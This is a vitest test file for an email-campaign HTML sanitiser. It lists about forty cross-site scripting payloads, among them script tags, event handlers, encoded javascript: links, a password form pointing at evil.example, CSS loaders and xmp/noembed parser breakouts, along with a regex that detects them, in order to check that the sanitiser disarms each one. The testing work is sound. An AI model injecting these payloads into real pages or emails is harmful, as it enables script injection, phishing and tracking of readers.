import { describe, expect, it } from 'vitest'
import { previewSite } from '#emails/preview-site.ts'
import { renderBulkMail, renderBulkTemplate } from '#emails/render-bulk.ts'
import { sanitiseHtml } from '#server/features/campaigns/sanitise-html.ts'
import { recordReliability } from '#tests/support/reliability.ts'

/** Each would run code, load a resource, link or overlay where it must not. */
const HOSTILE: [string, string][] = [
  ['a script', '<p>Hi</p><script>alert(1)</script>'],
  ['a script in odd letters', '<p>Hi</p><ScRiPt src=//evil.example></sCrIpT>'],
  ['a handler', '<p onmouseover="alert(1)">Hi</p>'],
  ['a handler without quotes', '<img src=https://a.example/x.png onerror=alert(1)>Hi'],
  ['a javascript link', '<a href="javascript:alert(1)">Hi</a>'],
  ['a javascript link with a line break', '<a href="java\nscript:alert(1)">Hi</a>'],
  ['a javascript link in entities', '<a href="&#106;avascript:alert(1)">Hi</a>'],
  ['a vbscript link', '<a href="vbscript:x">Hi</a>'],
  ['a data link', '<a href="data:text/html;base64,PHNjcmlwdD4=">Hi</a>'],
  ['a link without scheme', '<a href="//evil.example">Hi</a>'],
  ['a data image', '<img src="data:image/svg+xml;base64,PHN2Zz4=">Hi'],
  ['an image over http', '<img src="http://tracker.example/x.gif">Hi'],
  ['a frame', '<iframe src="https://evil.example"></iframe>Hi'],
  ['a frame with a document in it', '<iframe srcdoc="<script>alert(1)</script>"></iframe>Hi'],
  ['an object', '<object data="x"></object><embed src="x">Hi'],
  ['a form', '<form action="https://evil.example"><input name="password"></form>Hi'],
  ['svg', '<svg onload="alert(1)"><circle /></svg>Hi'],
  ['math', '<math><mtext><script>alert(1)</script></mtext></math>Hi'],
  ['a base', '<base href="https://evil.example/">Hi'],
  ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">Hi'],
  ['a style sheet', '<style>body{display:none}</style><link rel="stylesheet" href="//evil.example">Hi'],
  ['a style that covers the page', '<p style="position:fixed;top:0;z-index:9">Hi</p>'],
  ['a style that loads', '<p style="background:url(https://tracker.example/x)">Hi</p>'],
  ['an expression', '<p style="width:expression(alert(1))">Hi</p>'],
  ['an import', '<p style="@import \'//evil.example\'">Hi</p>'],
  ['a conditional comment', '<!--[if mso]><script>alert(1)</script><![endif]-->Hi'],
  ['a template', '<template><script>alert(1)</script></template>Hi'],
  ['a comment that swallows', '<!-- <p>Hi</p> --><p>Hi</p>'],
  ['half a tag', '<p>Hi</p><img src=x onerror="alert(1)"'],
  ['a tag in a tag', '<scr<script>ipt>alert(1)</scr</script>ipt>Hi'],
  // Raw text to a browser, elements to a parser that does not know them (CVE-2026-44990).
  ['xmp', '<xmp><script>alert(1)</script></xmp>Hi'],
  ['xmp in odd letters', '<XMP><img src=x onerror=alert(1)></xMp >Hi'],
  ['xmp in entities', '<xmp>&lt;script&gt;alert(1)&lt;/script&gt;</xmp>Hi'],
  ['xmp that ends inside an attribute', '<xmp><p title="</xmp><img src=x onerror=alert(1)>">Hi</p>'],
  ['noembed', '<noembed><img src=x onerror=alert(1)></noembed>Hi'],
  ['noembed in entities', '<noembed>&lt;img src=x onerror=alert(1)&gt;</noembed>Hi'],
  [
    'noembed that ends inside an attribute',
    '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></p></noembed>Hi',
  ],
  ['noframes', '<noframes><script>alert(1)</script></noframes>Hi'],
  ['plaintext', '<p>Hi</p><plaintext><script>alert(1)</script>'],
]

const DANGEROUS =
  /<(script|iframe|object|embed|form|input|svg|math|base|meta|link|style|template)|\son\w+=|javascript:|vbscript:|data:|\burl\(|expression\(|position|http:\/\/tracker|\/\/evil|<!--/i

describe('sanitiseHtml', () => {
  it.each(HOSTILE)('disarms %s and keeps the text', async (_name, html) => {
    const clean = await sanitiseHtml(html)
    // The rest of broken markup is escaped as text, so it never runs.
    expect(clean.replace(/&lt;[^<]*/g, '')).not.toMatch(DANGEROUS)
    expect(clean).toContain('Hi')
    recordReliability('injection', 1, 'pieces of HTML')
  })

  it.each([
    ['<h1>Fog</h1><p>Two <strong>words</strong> and <em>one</em></p>'],
    ['<ul><li>One</li></ul><ol start="3"><li>Three</li></ol>'],
    ['<table width="100%"><tbody><tr><td align="right">£60.00</td></tr></tbody></table>'],
    ['<img src="https://shop.example.com/fog.png" alt="Fog" width="300" />'],
    ['<p style="color:#13202b;margin:14px 0 0">Dark</p>'],
  ])('leaves %s as it is', async (html) => {
    expect(await sanitiseHtml(html)).toBe(html)
  })

  it('keeps a link from controlling the page that opened it, and keeps its target', async () => {
    const clean = await sanitiseHtml('<a href="https://shop.example.com/a?b=1&amp;c=2" target="_top">See</a>')
    expect(clean).toBe(
      '<a href="https://shop.example.com/a?b=1&amp;c=2" target="_blank" rel="noopener">See</a>',
    )
  })

  it('reduces a full page to its content', async () => {
    const page =
      '<!doctype html><html><head><title>T</title><style>p{}</style></head><body><p>Hi</p></body></html>'
    expect(await sanitiseHtml(page)).toBe('<p>Hi</p>')
  })

  it.each([['<script>x()</script>'], ['<p> </p>'], ['<style>p{}</style>'], ['<!-- nothing -->']])(
    'says of %s that there is nothing in it',
    async (html) => {
      expect(await sanitiseHtml(html)).toBe('')
    },
  )

  it('keeps the text, colours and button of our own templates', async () => {
    const { html } = await renderBulkTemplate({
      type: 'announcement',
      title: 'Closed',
      message: 'For a week.\nOr two.',
      ctaText: 'See',
      ctaUrl: 'https://shop.example.com/',
    })
    const clean = await sanitiseHtml(html)
    expect(clean).toContain('<h1 class="ink"')
    expect(clean).toContain('For a week.<br />Or two.')
    expect(clean).toMatch(
      /<a href="https:\/\/shop\.example\.com\/" class="go" style="[^"]*background:#a8135f/,
    )
  })

  it('flattens excessive nesting and keeps the text', async () => {
    for (const tag of ['div', 'table', 'ul', 'a href="https://example.com"', 'b']) {
      const [name = ''] = tag.split(' ')
      const clean = await sanitiseHtml(`${`<${tag}>`.repeat(3_000)}Fog season`)
      expect(clean).toContain('Fog season')
      expect(clean.split(`<${name}`).length - 1).toBeLessThanOrEqual(100)
      const mail = {
        site: previewSite,
        reason: 'You asked.',
        unsubscribeUrl: 'https://shop.example.com/api/u',
      }
      const { text } = await renderBulkMail({ ...mail, subject: 'News', html: clean, text: null })
      expect(text).toContain('Fog season')
    }
  })
})
